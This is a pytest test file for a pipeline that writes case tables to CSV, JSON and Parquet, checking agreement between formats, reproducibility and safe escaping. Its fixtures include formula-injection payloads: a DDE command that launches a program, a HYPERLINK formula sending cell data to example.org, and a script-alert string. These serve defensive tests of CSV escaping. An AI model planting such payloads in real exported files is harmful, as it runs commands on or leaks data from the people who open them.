"""What readers get to read, read the way they would: csv, json, gzip and pandas."""

import csv
import gzip
import hashlib
import io
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from etl import PROJECT
from etl.extract.facts import FACT_COLUMNS, read_facts
from etl.extract.sources import MEASURES
from etl.extract.sources.coviddata import read_countries as read
from etl.extract.sources.table import CUMULATIVE, NEW
from etl.load.countries import file_names
from etl.load.files import Filter, Tidy, write_files, write_world
from etl.load.publish import File
from etl.load.table import RUNNABLE, TableFiles, read_table
from etl.load.values import Header, records, to_list
from etl.store.layout import TABLE_CSV, TABLE_PARQUET
from etl.transform.columns import latest_fields, table_columns
from etl.transform.derive import tidy, tidy_groups
from etl.transform.filters import dropped
from etl.transform.merge import attach
from etl.transform.repair import repair
from etl.transform.world import world
from tests.support.frames import MOST, countries, days, rows, some, tables, values

HEADER = Header("A title", "Somebody's", "CC0", "2020-03-12", notice="Made up.")
QUOTED = 'Quoted "name", with a comma; and more \\ of it'
TABLE = rows(
    spain=days("2020-03-01", range(0, 120, 10), deaths=range(12), recoveries=[5] * 6 + [0] * 6),
    france=[*days("2020-03-01", [5, 3]), *days("2020-03-06", [30, 44, 44, 44, 50, 51, 52])],
    congo=days("2020-02-01", [1, 2]),
    congo_brazzaville=days("2020-03-10", [7, 7, 9], recoveries=[1, 1, 2]),
    ship=days("2020-02-03", [700, 701]),
    huge=days("2020-03-10", [MOST, 0, MOST], deaths=[0, MOST, 0]),
    formula=days("2020-03-11", [1, 2]),
)
ABOUT = countries(
    spain={
        "country": "España",
        "iso2": "ES",
        "iso3": "ESP",
        "continent": "Europe",
        "government_type": "=SUM(A1:A9)",
        "population": 47_000_000,
        "urban_population_pct": 80.5,
    },
    formula={"country": "=cmd|'/c calc'!A1", "iso3": "=A1"},
    huge={"country": QUOTED, "population": 10**12, "gdp_per_unit_of_energy_use": 0.1},
    france={"country": "日本, 法国", "iso2": "FR", "iso3": "FRA", "population": 0},
    congo={"iso2": "CG", "iso3": "COG"},
    ship={"country": "+ship"},
    congo_brazzaville={"iso2": "CG", "iso3": "COG", "continent": "-Africa"},
)
STALE = ("congo", "ship")
EVERYTHING = Filter()
SINCE = date(2020, 3, 11)
JSON_FILES = {
    "countries.json",
    "latest.json",
    "stats.json",
    "world.json",
    "countries/COG.json",
    "countries/ESP.json",
    "countries/FRA.json",
    "countries/congo.json",
    "countries/huge.json",
    "countries/ship.json",
    "countries/=A1.json",
}


def write(
    folder: Path,
    table: pd.DataFrame = TABLE,
    about: pd.DataFrame = ABOUT,
    only: Filter = EVERYTHING,
    header: Header = HEADER,
    at_least: int = 5,
) -> list[File]:
    repaired, _ = repair(table)
    written = Tidy(
        groups=tidy_groups(repaired, about, set(STALE), at_least),
        rows=repaired,
        countries=about.assign(file=file_names(repaired, about)),
        world=world(repaired, set(STALE)),
        left_out=set(STALE),
    )
    return write_files(folder, header, written, only)


@pytest.fixture(scope="module")
def out(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Everything that can be published, once."""
    folder = tmp_path_factory.mktemp("outputs") / "files"
    write(folder)
    return folder


def names(folder: Path) -> set[str]:
    return {p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file()}


def digests(folder: Path) -> dict[str, str]:
    return {n: hashlib.sha256((folder / n).read_bytes()).hexdigest() for n in sorted(names(folder))}


def refuse(what: object) -> None:
    raise ValueError(f"this is no JSON: {what}")


def from_json(path: Path) -> Any:
    """Strictly: no NaN, no Infinity, no name that stands twice."""

    def pairs(found: list[tuple[str, Any]]) -> dict[str, Any]:
        if len(dict(found)) != len(found):
            refuse(found)
        return dict(found)

    text = path.read_bytes().decode("utf-8")
    return json.loads(text, parse_constant=refuse, object_pairs_hook=pairs)


def from_csv(data: bytes) -> list[dict[str, str]]:
    reader = csv.DictReader(io.StringIO(data.decode("utf-8"), newline=""), strict=True)
    found = list(reader)
    assert all(None not in row and None not in row.values() for row in found)
    return found


def typed(row: dict[str, str]) -> dict[str, Any]:
    """A CSV row with its numbers and truths, and without the apostrophes that make it harmless."""
    cells: dict[str, Any] = {}
    for name, cell in row.items():
        if cell == "":
            cells[name] = None
        elif name in ("stale", "silent"):
            cells[name] = {"true": True, "false": False}[cell]
        elif name in (*NEW, *CUMULATIVE, "active", "population"):
            cells[name] = int(cell)
        elif name.startswith(("cases_7d", "deaths_7d")) or name in (
            "case_fatality",
            "gdp_per_unit_of_energy_use",
            "urban_population_pct",
        ):
            cells[name] = float(cell)
        else:
            cells[name] = cell[1:] if cell[0] == "'" and cell[1:2] in RUNNABLE else cell
    return cells


def from_parquet(path: Path) -> list[dict[str, Any]]:
    table = pd.read_parquet(path)
    columns = {name: values(table, name) for name in table.columns}
    return [dict(zip(columns, row, strict=True)) for row in zip(*columns.values(), strict=True)]


def from_country_files(folder: Path) -> list[dict[str, Any]]:
    """The tidy table, put together from countries/*.json."""
    found = []
    for entry in from_json(folder / "countries.json")["countries"]:
        about = from_json(folder / entry["file"])
        series = {name: value for name, value in about.items() if isinstance(value, list)}
        for cells in zip(*series.values(), strict=True):
            whole = {**about, **dict(zip(series, cells, strict=True))}
            found.append({name: whole[name] for name in table_columns() if name in whole})
    return sorted(found, key=lambda row: (row["country_key"], row["date"]))


# What is written


def test_every_file_is_there_and_says_how_many_rows_it_holds(tmp_path: Path) -> None:
    files = write(tmp_path / "files")
    assert [file.name for file in files] == sorted(file.name for file in files)
    assert {file.name for file in files} == names(tmp_path / "files")
    assert {file.name for file in files} == JSON_FILES | {
        *("latest.csv", "latest.xlsx", TABLE_CSV, TABLE_PARQUET)
    }
    assert all(file.path == tmp_path / "files" / file.name for file in files)
    held = {file.name: file.rows for file in files}
    assert held[TABLE_CSV] == held[TABLE_PARQUET] == held["stats.json"] == len(TABLE)
    assert held["latest.json"] == held["latest.csv"] == held["countries.json"] == 7
    assert held["world.json"] == 41  # 1 February to 12 March
    assert held["countries/ESP.json"] == 12
    assert held["countries/congo.json"] == 2


def test_csv_has_the_columns_of_the_tidy_table_and_its_days_as_days(out: Path) -> None:
    table = from_csv(gzip.decompress((out / TABLE_CSV).read_bytes()))
    assert list(table[0]) == table_columns()
    assert len(table) == len(TABLE)
    assert {len(row["date"]) for row in table} == {10}
    newest = from_csv((out / "latest.csv").read_bytes())
    assert list(newest[0]) == [field.name for field in latest_fields()]


def test_csv_parquet_and_json_agree_cell_by_cell(out: Path) -> None:
    in_csv = [typed(row) for row in from_csv(gzip.decompress((out / TABLE_CSV).read_bytes()))]
    in_parquet = from_parquet(out / TABLE_PARQUET)
    assert in_csv == in_parquet
    assert from_country_files(out) == in_parquet
    assert len(in_parquet) == len(TABLE)


OF_LATEST = ("active", "last_reported", "silent")  # the tidy table lacks them


def test_latest_csv_and_json_agree_cell_by_cell(out: Path) -> None:
    in_json = from_json(out / "latest.json")["countries"]
    assert [typed(row) for row in from_csv((out / "latest.csv").read_bytes())] == in_json
    assert [row["country_key"] for row in in_json] == sorted(ABOUT["country_key"])
    last = {row["country_key"]: row for row in from_parquet(out / TABLE_PARQUET)}
    assert [{k: v for k, v in row.items() if k not in OF_LATEST} for row in in_json] == list(
        last.values()
    )
    active = {row["country_key"]: row["active"] for row in in_json}
    assert active["spain"] is None  # its recoveries fell back to 0
    assert active["congo-brazzaville"] == 7


def test_the_published_table_is_the_tidy_table(out: Path) -> None:
    expected = tidy(repair(TABLE)[0], ABOUT, set(STALE))
    table = pd.read_parquet(out / TABLE_PARQUET)
    for column in table_columns():
        assert values(table, column) == values(expected, column), column
    assert {str(table[name].dtype) for name in ("country", "iso3", "continent")} == {"str"}
    assert {str(table[name].dtype) for name in (*NEW, *CUMULATIVE, "population")} == {"Int64"}
    assert str(table["stale"].dtype) == "bool"


def test_countries_json_lists_each_country_in_the_source_s_order_with_its_file(out: Path) -> None:
    listed = from_json(out / "countries.json")["countries"]
    assert [row["country_key"] for row in listed] == list(ABOUT["country_key"])
    assert list(listed[0]) == ["country_key", "country", "iso2", "iso3", *FACT_COLUMNS, "file"]
    assert listed[0]["file"] == "countries/ESP.json"
    assert listed[0]["population"] == 47_000_000
    assert listed[4]["population"] is None
    assert all((out / row["file"]).is_file() for row in listed)


def test_a_country_s_file_has_its_codes_facts_and_series(out: Path) -> None:
    spain = from_json(out / "countries" / "ESP.json")
    series = [
        c
        for c in table_columns()
        if c not in ("country_key", "country", "iso3", "stale", *FACT_COLUMNS)
    ]
    header = ["notice", "format", "source", "attribution", "licence", "last_date"]
    about = ["country_key", "country", "iso2", "iso3", *FACT_COLUMNS, "stale"]
    assert list(spain) == [*header, *about, *series]
    assert (spain["country"], spain["iso2"], spain["stale"]) == ("España", "ES", False)
    assert spain["urban_population_pct"] == 80.5
    assert spain["date"] == [f"2020-03-{n:02}" for n in range(1, 13)]
    assert spain["new_cases"] == [None, *[10] * 11]
    assert spain["cases_7d_avg"] == [*[None] * 7, *[10.0] * 5]
    assert from_json(out / "countries" / "ship.json")["stale"] is True


def test_world_json_names_what_it_leaves_out_and_ends_in_its_totals(out: Path) -> None:
    about = from_json(out / "world.json")
    series = about["series"]
    assert about["left_out"] == ["congo", "ship"]
    assert list(series) == ["date", *CUMULATIVE, *NEW]
    assert {len(column) for column in series.values()} == {41}
    assert about["totals"] == {name: column[-1] for name, column in series.items()}
    assert about["totals"]["date"] == "2020-03-12"
    assert about["totals"]["cumulative_cases"] == 110 + 52 + 9 + MOST + 2
    assert series["new_cases"][0] is None


# stats.json


def test_stats_json_is_read_by_the_source_s_own_reader_and_gives_its_counts_back(
    out: Path,
) -> None:
    table = read(out / "stats.json")
    assert values(table.entities, "country_key") == list(ABOUT["country_key"])
    assert values(table.entities, "country") == list(ABOUT["country"])
    for column in ("country_key", "date", *CUMULATIVE):
        assert values(table.rows, column) == values(TABLE, column)


def test_new_in_stats_json_adds_up_to_cumulative_across_gaps_and_corrections(out: Path) -> None:
    for entry in from_json(out / "stats.json"):
        total = dict.fromkeys(MEASURES, 0)
        assert list(entry) == ["country", "dates"]
        assert list(entry["dates"]) == sorted(entry["dates"])
        for day in entry["dates"].values():
            assert list(day) == ["new", "cumulative"]
            total = {measure: total[measure] + day["new"][measure] for measure in MEASURES}
            assert day["cumulative"] == total


def test_a_repaired_stats_json_says_what_the_repaired_table_says(out: Path) -> None:
    again, corrections = repair(read(out / "stats.json").rows)
    assert (corrections.new_recomputed, corrections.days_missing) == (0, 3)
    for column in NEW:
        assert values(again, column) == values(repair(TABLE)[0], column)


@some
@given(tables())
def test_stats_json_gives_any_table_back(
    tmp_path_factory: pytest.TempPathFactory, table: pd.DataFrame
) -> None:
    about = countries(*reversed(table["country_key"].cat.categories))
    write(folder := tmp_path_factory.mktemp("any") / "files", table, about)
    again = read(folder / "stats.json")
    assert values(again.entities, "country_key") == list(about["country_key"])
    for column in ("country_key", "date", *CUMULATIVE):
        assert values(again.rows, column) == values(table, column)
    assert repair(again.rows)[1].new_recomputed == 0
    assert from_country_files(folder) == from_parquet(folder / TABLE_PARQUET)


# Texts that bite


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_that_a_spreadsheet_would_run_is_harmless_in_csv_alone(
    tmp_path: Path, first: str
) -> None:
    text = f'{first}HYPERLINK("http://example.org?x="&A1,"more")'
    about = countries(spain={"country": text, "iso3": first, "land_conditions": text})
    write(folder := tmp_path / "files", rows(spain=days("2020-03-01", [1])), about)

    for data in (
        gzip.decompress((folder / TABLE_CSV).read_bytes()),
        (folder / "latest.csv").read_bytes(),
    ):
        row = from_csv(data)[0]
        assert (row["country"], row["iso3"]) == (f"'{text}", f"'{first}")
        assert row["land_conditions"] == f"'{text}"
    country = next((folder / "countries").iterdir())
    for found in (
        from_json(country),
        from_json(folder / "latest.json")["countries"][0],
        from_json(folder / "countries.json")["countries"][0],
        from_parquet(folder / TABLE_PARQUET)[0],
    ):
        assert (found["country"], found["land_conditions"]) == (text, text)
    assert from_json(folder / "stats.json")[0]["country"]["name"] == text


def test_no_text_in_csv_begins_like_a_formula_and_negative_numbers_stay_numbers(out: Path) -> None:
    negative = 0
    for row in from_csv(gzip.decompress((out / TABLE_CSV).read_bytes())):
        for name, cell in row.items():
            if cell.startswith(RUNNABLE):
                float(cell)
                assert name in NEW or "_7d_" in name
                negative += 1
    assert negative == 4  # cases of France, recoveries of Spain, and twice the huge ones


@pytest.mark.parametrize(
    "name",
    [
        QUOTED,
        "with\na line break; and\tmore",
        "a\r\nb",
        '"',
        "''=1",
        "'",
        ",,",
        "<script>alert(1)</script>",
        "\\n",
        "日本",
        "🏴‍☠️",
        "a\u2028b",
        " x ",
    ],
)
def test_quotes_line_breaks_commas_and_any_script_survive_in_every_format(
    tmp_path: Path, name: str
) -> None:
    about = countries(spain={"country": name, "continent": name})
    write(folder := tmp_path / "files", rows(spain=days("2020-03-01", [1, 2])), about)
    for data in (
        gzip.decompress((folder / TABLE_CSV).read_bytes()),
        (folder / "latest.csv").read_bytes(),
    ):
        assert {row["country"] for row in from_csv(data)} == {name}
        assert {row["continent"] for row in from_csv(data)} == {name}
    assert {row["country"] for row in from_parquet(folder / TABLE_PARQUET)} == {name}
    assert from_json(folder / "latest.json")["countries"][0]["country"] == name
    assert from_json(folder / "stats.json")[0]["country"]["name"] == name
    assert from_json(folder / "countries" / "spain.json")["country"] == name


# JSON


def test_every_json_file_but_the_source_s_own_shape_says_whose_data_it_is(out: Path) -> None:
    head = {
        "notice": "Made up.",
        "format": 1,
        "source": "A title",
        "attribution": "Somebody's",
        "licence": "CC0",
        "last_date": "2020-03-12",
    }
    for name in JSON_FILES - {"stats.json"}:
        content = from_json(out / name)
        assert dict(list(content.items())[:6]) == head, name
        assert next(iter(content)) == "notice"


def test_where_there_is_no_notice_no_file_has_one(tmp_path: Path) -> None:
    header = Header("A title", "Somebody's", "CC0", "2020-03-12")
    write(folder := tmp_path / "files", header=header)
    for name in JSON_FILES - {"stats.json"}:
        assert list(from_json(folder / name))[:2] == ["format", "source"]


def test_what_is_missing_is_null_in_json_and_nothing_in_csv(out: Path) -> None:
    for name in JSON_FILES:
        from_json(out / name)  # refuses NaN
        assert b"nan" not in (out / name).read_bytes().lower()
    huge = from_json(out / "countries" / "huge.json")
    assert huge["cases_7d_avg"] == [None, None, None]
    assert huge["case_fatality"] == [0.0, None, 0.0]
    assert huge["new_cases"] == [None, -MOST, MOST]
    assert (huge["iso3"], huge["continent"], huge["urban_population_pct"]) == (None, None, None)
    row = from_csv((out / "latest.csv").read_bytes())[4]
    assert (row["country_key"], row["iso3"], row["population"]) == ("huge", "", "1000000000000")


def test_plain_values_are_made_of_every_kind_of_column() -> None:
    frame = pd.DataFrame(
        {
            "day": np.array(["2020-01-22", "1969-12-31"], dtype="datetime64[s]"),
            "count": pd.array([2**62 + 1, None], dtype="Int64"),
            "plain": np.array([1, -1], dtype=np.int32),
            "yes": np.array([True, False]),
            "text": pd.array(["a", None], dtype="str"),
            "kind": pd.Categorical(["a", None]),
        }
    )
    assert records(frame) == [
        {
            "day": "2020-01-22",
            "count": 2**62 + 1,
            "plain": 1,
            "yes": True,
            "text": "a",
            "kind": "a",
        },
        {
            "day": "1969-12-31",
            "count": None,
            "plain": -1,
            "yes": False,
            "text": None,
            "kind": None,
        },
    ]
    assert [type(value) for value in to_list(frame["plain"])] == [int, int]
    assert records(frame.head(0)) == []


# The same bytes


def test_a_second_writing_gives_the_same_bytes(out: Path, tmp_path: Path) -> None:
    write(tmp_path / "again")
    assert digests(tmp_path / "again") == digests(out)


PROGRAM = """
import sys
sys.path.insert(0, sys.argv[1])
from pathlib import Path
from tests.load.test_files import write
write(Path(sys.argv[2]))
"""


@pytest.mark.parametrize(
    "environment",
    [
        {"TZ": "Pacific/Kiritimati", "LC_ALL": "C", "PYTHONHASHSEED": "1"},
        {
            "TZ": "America/Los_Angeles",
            "LC_ALL": "tr_TR.UTF-8",
            "PYTHONHASHSEED": "2",
            "PYTHONUTF8": "0",
            "ARROW_DEFAULT_MEMORY_POOL": "system",
            "OMP_NUM_THREADS": "1",
        },
    ],
)
def test_time_zone_locale_hash_seed_and_memory_pool_make_no_difference(
    out: Path, tmp_path: Path, environment: dict[str, str]
) -> None:
    subprocess.run(
        [sys.executable, "-W", "error", "-c", PROGRAM, str(PROJECT), str(tmp_path / "again")],
        env={**os.environ, **environment},
        cwd=tmp_path,
        check=True,
        timeout=60,
    )
    assert digests(tmp_path / "again") == digests(out)


def test_no_clock_stands_in_a_file(out: Path) -> None:
    head = (out / TABLE_CSV).read_bytes()[:10]
    assert head[:3] == b"\x1f\x8b\x08"
    assert head[3] == 0  # no name of a file
    assert head[4:8] == bytes(4)  # no time


def test_how_the_table_is_cut_into_groups_shows_in_no_file_but_parquet(
    out: Path, tmp_path: Path
) -> None:
    write(tmp_path / "one", at_least=10_000)
    one, some_groups = digests(tmp_path / "one"), digests(out)
    assert one.pop(TABLE_PARQUET) != some_groups.pop(TABLE_PARQUET)
    assert one == some_groups
    assert from_parquet(tmp_path / "one" / TABLE_PARQUET) == from_parquet(out / TABLE_PARQUET)


# The published table, read back


def test_the_table_is_read_back_in_pieces_with_the_columns_it_has(
    out: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("etl.load.table.PIECE_ROWS", 5)
    pieces = list(
        read_table(out / TABLE_PARQUET, ["date", "new_cases", "no_such_column", "country_key"])
    )
    assert all(len(piece) <= 5 for piece in pieces)
    table = pd.concat([piece.astype({"country_key": "str"}) for piece in pieces], ignore_index=True)
    assert list(table.columns) == ["date", "new_cases", "country_key"]
    expected = repair(TABLE)[0]
    for column in table.columns:
        assert values(table, column) == values(expected, column)


@pytest.mark.parametrize("content", [b"", b"PAR1", b"<html>no such key</html>", b"PAR1" * 40])
def test_a_file_that_is_no_parquet_is_a_value_or_os_error(tmp_path: Path, content: bytes) -> None:
    (tmp_path / TABLE_PARQUET).write_bytes(content)
    with pytest.raises((ValueError, OSError)):
        list(read_table(tmp_path / TABLE_PARQUET, table_columns()))


def test_a_truncated_table_is_a_value_or_os_error(out: Path, tmp_path: Path) -> None:
    whole = (out / TABLE_PARQUET).read_bytes()
    (tmp_path / TABLE_PARQUET).write_bytes(whole[: len(whole) // 2])
    with pytest.raises((ValueError, OSError)):
        list(read_table(tmp_path / TABLE_PARQUET, table_columns()))


def test_a_fault_in_the_middle_of_writing_comes_through_as_it_is(tmp_path: Path) -> None:
    def broken() -> Iterator[pd.DataFrame]:
        yield tidy(repair(TABLE)[0], ABOUT, set())
        raise RuntimeError("in the middle")

    def write_all() -> None:
        with TableFiles(tmp_path, {}) as files:
            for group in broken():
                files.add(group)

    with pytest.raises(RuntimeError, match="in the middle"):
        write_all()


# Names of files


def test_a_country_s_file_is_named_by_its_code_else_by_its_key() -> None:
    table = rows(spain=days("2020-03-01", [1]), the_ship=days("2020-03-01", [1]))
    about = countries("the-ship", spain={"iso3": "ESP"})
    assert file_names(table, about) == ["countries/the-ship.json", "countries/ESP.json"]


def test_of_series_that_share_a_code_the_one_that_goes_on_longest_has_it() -> None:
    same = {"iso3": "COG"}
    table = rows(
        a=days("2020-03-01", [1, 1]),
        b=days("2020-03-02", [1, 1]),  # ends last, and begins
        c=days("2020-03-01", [1, 1, 1]),  # before this one, which has more days
        d=days("2020-02-01", [1] * 20),  # the most days, but ended
    )
    about = countries(d=same, b=same, c=same, a=same)
    assert file_names(table, about) == [
        "countries/d.json",
        "countries/b.json",
        "countries/COG.json",
        "countries/a.json",
    ]


def test_of_equal_series_that_share_a_code_the_first_key_has_it() -> None:
    same = {"iso3": "COG"}
    table = rows(b=days("2020-03-01", [1]), a=days("2020-03-01", [1]))
    assert file_names(table, countries(b=same, a=same)) == [
        "countries/b.json",
        "countries/COG.json",
    ]


def test_a_file_s_name_collides_on_no_disk() -> None:
    one_day = days("2020-03-01", [1])
    table = rows(esp=one_day, spain=one_day, con=one_day, com1=one_day, fra=one_day)
    about = countries("esp", "con", "com1", "fra", spain={"iso3": "ESP"})
    found = dict(zip(about["country_key"], file_names(table, about), strict=True))
    assert found == {
        "esp": "countries/esp_.json",
        "con": "countries/con_.json",
        "com1": "countries/com1_.json",
        "fra": "countries/fra.json",
        "spain": "countries/ESP.json",
    }


@some
@given(tables(), st.data())
def test_no_two_series_share_a_file(table: pd.DataFrame, data: st.DataObject) -> None:
    codes = st.sampled_from(["ESP", "FRA", None])
    keys = table["country_key"].cat.categories
    about = countries(**{key: {"iso3": data.draw(codes)} for key in keys})
    found = file_names(table, about)
    assert len({name.lower() for name in found}) == len(keys)
    used = {name.removeprefix("countries/").removesuffix(".json") for name in found}
    assert set(about["iso3"].dropna()) <= used


# The filters


@pytest.mark.parametrize("measures", ["all", "new", "cumulative"])
def test_keep_drops_its_columns_in_every_file(tmp_path: Path, measures: str) -> None:
    write(folder := tmp_path / "files", only=Filter(measures))
    gone = set(dropped(measures))
    table = [name for name in table_columns() if name not in gone]
    assert list(from_csv(gzip.decompress((folder / TABLE_CSV).read_bytes()))[0]) == table
    assert list(from_parquet(folder / TABLE_PARQUET)[0]) == table
    newest = set(from_csv((folder / "latest.csv").read_bytes())[0])
    assert newest == {*table_columns(), "active", "last_reported", "silent"} - gone
    assert newest == set(from_json(folder / "latest.json")["countries"][0])
    assert not gone & set(from_json(folder / "countries" / "ESP.json"))
    assert set(from_country_files(folder)[0]) == set(table)
    about = from_json(folder / "world.json")
    assert set(about["series"]) == set(about["totals"]) == {"date", *NEW, *CUMULATIVE} - gone
    kinds = ["new", "cumulative"] if measures == "all" else [measures]
    assert {tuple(d) for e in from_json(folder / "stats.json") for d in e["dates"].values()} == {
        tuple(kinds)
    }
    in_csv = [typed(row) for row in from_csv(gzip.decompress((folder / TABLE_CSV).read_bytes()))]
    assert in_csv == from_parquet(folder / TABLE_PARQUET) == from_country_files(folder)


def test_since_shortens_every_file_and_changes_no_value(out: Path, tmp_path: Path) -> None:
    files = write(folder := tmp_path / "files", only=Filter(since=SINCE))

    def late(found: list[dict[str, Any]]) -> list[dict[str, Any]]:
        return [row for row in found if row["date"] >= str(SINCE)]

    expected = late(from_parquet(out / TABLE_PARQUET))
    assert len(expected) == 10
    assert from_parquet(folder / TABLE_PARQUET) == expected
    assert [
        typed(r) for r in from_csv(gzip.decompress((folder / TABLE_CSV).read_bytes()))
    ] == expected
    assert from_country_files(folder) == expected
    in_full = late(from_json(out / "latest.json")["countries"])
    assert from_json(folder / "latest.json")["countries"] == in_full
    assert [typed(row) for row in from_csv((folder / "latest.csv").read_bytes())] == in_full

    whole, short = from_json(out / "world.json"), from_json(folder / "world.json")
    assert short["totals"] == whole["totals"]
    assert short["series"] == {name: column[-2:] for name, column in whole["series"].items()}

    full = {e["country"]["key"]: e["dates"] for e in from_json(out / "stats.json")}
    for entry in from_json(folder / "stats.json"):
        dates = full[entry["country"]["key"]]
        assert entry["dates"] == {day: dates[day] for day in dates if day >= str(SINCE)}
    held = {file.name: file.rows for file in files}
    assert held[TABLE_CSV] == held[TABLE_PARQUET] == held["stats.json"] == 10
    assert held["world.json"] == 2


def test_recoveries_that_fell_to_nothing_before_since_leave_active_missing(tmp_path: Path) -> None:
    write(folder := tmp_path / "files", only=Filter(since=SINCE))
    newest = {row["country_key"]: row for row in from_json(folder / "latest.json")["countries"]}
    assert newest["spain"]["cumulative_recoveries"] == 0
    assert newest["spain"]["active"] is None
    assert newest["france"]["active"] == 52


def test_a_series_that_ended_before_since_is_listed_nowhere(tmp_path: Path) -> None:
    files = write(folder := tmp_path / "files", only=Filter(since=SINCE), at_least=1)
    left = [key for key in ABOUT["country_key"] if key not in STALE]
    listed = from_json(folder / "countries.json")["countries"]
    assert [row["country_key"] for row in listed] == left
    assert [e["country"]["key"] for e in from_json(folder / "stats.json")] == left
    assert {row["file"] for row in listed} == {
        f for f in names(folder) if f.startswith("count")
    } - {"countries.json"}
    assert {file.name: file.rows for file in files}["countries.json"] == len(left)


def test_a_world_without_days_is_written_without_totals(tmp_path: Path) -> None:
    nothing = world(TABLE, set()).head(0)
    assert write_world(tmp_path / "world.json", HEADER, nothing, []) == 0
    about = from_json(tmp_path / "world.json")
    assert about["totals"] == {}
    assert set(map(len, about["series"].values())) == {0}


def test_countries_without_any_facts_can_be_written(tmp_path: Path) -> None:
    entities = pd.DataFrame({"country_key": ["spain"], "country": ["Spain"]}, dtype="str")
    table = rows(spain=days("2020-03-01", range(9)))
    sample = PROJECT / "samples" / "InfoPaisosExtra.csv"
    for n, facts in enumerate([None, read_facts(sample)]):
        about, _ = attach(entities, facts)
        write(folder := tmp_path / str(n), table, about)
        in_csv = [
            typed(row) for row in from_csv(gzip.decompress((folder / TABLE_CSV).read_bytes()))
        ]
        assert in_csv == from_parquet(folder / TABLE_PARQUET) == from_country_files(folder)
        assert in_csv[8]["iso3"] == "ESP"
        assert (in_csv[8]["continent"] is None) is (facts is None)
